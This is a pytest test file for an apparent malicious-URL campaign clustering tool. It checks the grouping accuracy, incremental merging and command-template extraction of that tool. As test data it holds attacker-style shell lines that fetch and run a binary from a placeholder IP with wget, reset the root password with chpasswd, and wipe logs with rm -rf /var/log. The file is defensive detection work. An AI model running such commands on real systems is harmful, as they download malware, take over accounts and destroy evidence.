"""Campaigns found again on made-up ones whose truth is known, in one go and bit by bit."""

from __future__ import annotations

import random
from collections import Counter
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from math import comb

import pytest

from urltrap.analysis import NEAR, distance, fuzzy_hash
from urltrap.judge import Label
from urltrap.judge.campaigns import Changes, Fetched, Known, Link, Node, alike, campaign_id, join, links_of
from urltrap.judge.template import template_of

START = datetime(2026, 11, 1, tzinfo=UTC)
ERROR_PAGE = ("0" * 64, "html", 300)


def adjusted_rand_index(truth: dict[str, object], found: dict[str, object]) -> float:
    """Hubert and Arabie, "Comparing partitions" (1985): 1 for the same groups, 0 for chance."""
    pairs = Counter((truth[item], found[item]) for item in truth)
    together = sum(comb(n, 2) for n in pairs.values())
    rows = sum(comb(n, 2) for n in Counter(truth.values()).values())
    columns = sum(comb(n, 2) for n in Counter(found[item] for item in truth).values())
    expected = rows * columns / comb(len(truth), 2)
    most = (rows + columns) / 2
    return (together - expected) / (most - expected)


class Made:
    """Labelled campaigns: hosts, variants of a payload, a key, a command sequence; and what tempts to join."""

    def __init__(self, seed: int, campaigns: int = 25) -> None:
        chance = random.Random(seed)
        self.truth: dict[str, object] = {}
        self.urls: list[Fetched] = []
        self.bodies: dict[str, bytes] = {}
        for number in range(campaigns):
            self._campaign(chance, number)
        chance.shuffle(self.urls)

    def _campaign(self, chance: random.Random, number: int) -> None:
        body = bytes(chance.randrange(256) for _ in range(6000))
        names = ["".join(chance.choices("abcdefghijklmnop", k=6)) for _ in range(4)]
        template = template_of(
            [f"cd /tmp; wget http://198.51.100.{n}/{names[0]}; chmod 777 {names[1]}; ./{names[1]} {names[2]}".encode()
             for n in range(2)]
        )  # fmt: skip
        hosts = [f"{number}-{n}.example.net" for n in range(chance.randint(1, 5))]
        shared = chance.random() < 0.4
        for index in range(chance.randint(2, 14)):
            variant = bytearray(body)
            for _ in range(chance.randint(0, 12)):
                variant[chance.randrange(len(variant))] = chance.randrange(256)
            sha256 = f"{number:032x}{index // 2:032x}"
            self.bodies.setdefault(sha256, bytes(variant))
            key = f"{number:03}-{index:03}"
            on_shared = shared and index % 3 == 0
            # No single kind of evidence joins a campaign: each URL has only some of it, as real ones do.
            self.urls.append(
                Fetched(
                    key=key,
                    host="raw.githubusercontent.com" if on_shared else chance.choice(hosts),
                    labels=(Label("code-hosting", "l"),) if on_shared else (),
                    payloads=((sha256, "elf", 6000), ERROR_PAGE)
                    if chance.random() < 0.8 or on_shared
                    else (ERROR_PAGE,),
                    templates=(template,) if chance.random() < 0.6 else ("",),
                    keys=(f"SHA256:{number}",) if chance.random() < 0.3 else (),
                )
            )
            self.truth[key] = number

    def links(self, url: Fetched) -> list[Link]:
        found = links_of(url)
        for sha256, kind, _ in url.payloads:
            if kind == "elf":
                own = fuzzy_hash(self.bodies[sha256])
                others = ((other, distance(own, fuzzy_hash(body))) for other, body in self.bodies.items())
                found += alike(sha256, others, NEAR)
        return found


def nodes(links: Iterable[Link]) -> list[Node]:
    return list(dict.fromkeys(node for link in links for node in (link.first, link.second)))


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_labelled_campaigns_are_found_again(seed: int) -> None:
    print(f"seed {seed}")
    made = Made(seed)
    links = [link for url in made.urls for link in made.links(url)]
    changes = join(links, {}, dict.fromkeys(nodes(links), START))
    found = {node.value: campaign for node, (campaign, _) in changes.members.items() if node.kind == "url"}
    assert adjusted_rand_index(made.truth, {key: found.get(key, key) for key in made.truth}) >= 0.9


def test_the_index_is_one_for_the_same_groups_and_low_for_wrong_ones() -> None:
    truth: dict[str, object] = {str(n): n // 5 for n in range(50)}
    assert adjusted_rand_index(truth, {key: f"c{value}" for key, value in truth.items()}) == 1
    assert adjusted_rand_index(truth, {str(n): n % 5 for n in range(50)}) < 0.1


def grown(made: Made, order: list[Fetched]) -> tuple[dict[Node, str], dict[str, datetime]]:
    """Campaigns as they grow one URL after another, as the pipeline keeps them."""
    members: dict[Node, str] = {}
    since: dict[str, datetime] = {}
    for index, url in enumerate(order):
        links = made.links(url)
        involved = nodes(links)
        known = {node: Known(members[node], since[members[node]]) for node in involved if node in members}
        changes = join(links, known, dict.fromkeys(involved, START + timedelta(minutes=index)))
        apply(changes, members, since)
    return members, since


def apply(changes: Changes, members: dict[Node, str], since: dict[str, datetime]) -> None:
    members.update({node: campaign for node, (campaign, _) in changes.members.items()})
    for old, new in changes.merged.items():
        members.update({node: new for node, campaign in members.items() if campaign == old})
    since.update(changes.since)


def test_bit_by_bit_gives_the_same_groups_as_all_at_once() -> None:
    made = Made(7, campaigns=8)
    links = [link for url in made.urls for link in made.links(url)]
    at_once = join(links, {}, dict.fromkeys(nodes(links), START)).members
    for order in (made.urls, made.urls[::-1]):
        members, _ = grown(made, order)
        pairs = {(at_once[node][0], campaign) for node, campaign in members.items()}
        assert len(pairs) == len({first for first, _ in pairs}) == len({second for _, second in pairs})


def test_an_id_once_given_stays_and_the_older_of_two_wins() -> None:
    first, second, host = Node("url", "a"), Node("url", "b"), Node("host", "h")
    known = {first: Known("c-old", START), second: Known("c-new", START + timedelta(days=1))}
    links = [Link(first, host, "it lies on this host"), Link(second, host, "it lies on this host")]
    changes = join(links, known, dict.fromkeys((first, second, host), START + timedelta(days=2)))
    assert changes.merged == {"c-new": "c-old"}
    assert changes.members == {host: ("c-old", "it lies on this host")}
    assert changes.since == {"c-old": START}


def test_a_new_campaign_is_named_after_its_first_node_whatever_the_order() -> None:
    links = [Link(Node("url", "b"), Node("host", "h"), "x"), Link(Node("url", "a"), Node("host", "h"), "x")]
    at = {
        Node("url", "a"): START,
        Node("url", "b"): START + timedelta(1),
        Node("host", "h"): START + timedelta(1),
    }
    for order in (links, links[::-1]):
        changes = join(order, {}, at)
        assert {campaign for campaign, _ in changes.members.values()} == {campaign_id(Node("url", "a"))}


def test_shared_hosts_error_pages_and_benign_hosts_join_nobody() -> None:
    assert links_of(Fetched("k", "github.com", (Label("code-hosting", "l"),), (ERROR_PAGE,))) == []
    assert (
        links_of(Fetched("k", "ifconfig.me", (Label("ip-check", "l"),), (("a" * 64, "script", 999),))) == []
    )
    assert [link.why for link in links_of(Fetched("k", "a.example"))] == ["it lies on this host"]


def test_a_template_is_what_stays_when_names_made_by_chance_change() -> None:
    def attack(host: str, name: str, secret: str) -> list[bytes]:
        return [f"cd /tmp && wget http://{host}/{name} -O x1; chmod 777 x1; ./x1 ssh".encode(),
                f"echo 'root:{secret}'|chpasswd".encode()]  # fmt: skip

    first = template_of(attack("198.51.100.1", "bins.sh", "aB3dE5fG7hJ9"))
    assert first and first == template_of(attack("203.0.113.99:8080", "other/path.sh", "zY8xW6vU4tS2"))
    assert first != template_of(
        [*attack("198.51.100.1", "bins.sh", "aB3dE5fG7hJ9"), b"history -c; rm -rf /var/log"]
    )


@pytest.mark.parametrize(
    "commands", [[], [b"uname -a"], [b"uname -a; id; w; cat /proc/cpuinfo; free -m; nproc; lscpu; who"]]
)
def test_questions_that_every_scanner_asks_are_no_template(commands: list[bytes]) -> None:
    assert template_of(commands) == ""
